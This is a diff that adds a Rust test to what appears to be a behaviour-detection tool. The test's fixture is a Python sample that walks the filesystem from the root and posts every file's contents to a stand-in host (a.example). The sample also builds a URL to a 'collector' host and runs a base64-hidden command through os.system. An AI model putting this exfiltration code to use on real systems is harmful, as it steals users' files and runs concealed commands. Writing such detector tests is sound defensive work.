@@ -240,3 +240,19 @@ fn circumstances_are_noted() {
     }
     assert_eq!(exec.object.text, "powershell -enc x");
 }
+
+#[test]
+fn generators_slices_and_handed_on_functions_are_followed() {
+    let seen = seen(
+        "import os, threading, requests, base64\n\
+         def find():\n    for root, _, files in os.walk('/'):\n        for name in files:\n            yield os.path.join(root, name)\n\
+         for path in find():\n    requests.post('http://a.example/', data=open(path).read())\n\
+         parts = 'api.vendor.example'.split('.')\nparts[1:] = ['collector', 'example']\n\
+         requests.get('https://' + '.'.join(parts))\n\
+         threading.Thread(target=os.system, args=[base64.b64decode('d2hvYW1p').decode()]).start()\n",
+    );
+    let objects: Vec<&str> = seen.behaviours.iter().map(|one| one.object.text.as_str()).collect();
+    assert!(objects.contains(&"{}/{}"), "{objects:?}");
+    assert!(objects.contains(&"https://api.collector.example"), "{objects:?}");
+    assert!(objects.contains(&"whoami"), "{objects:?}");
+}
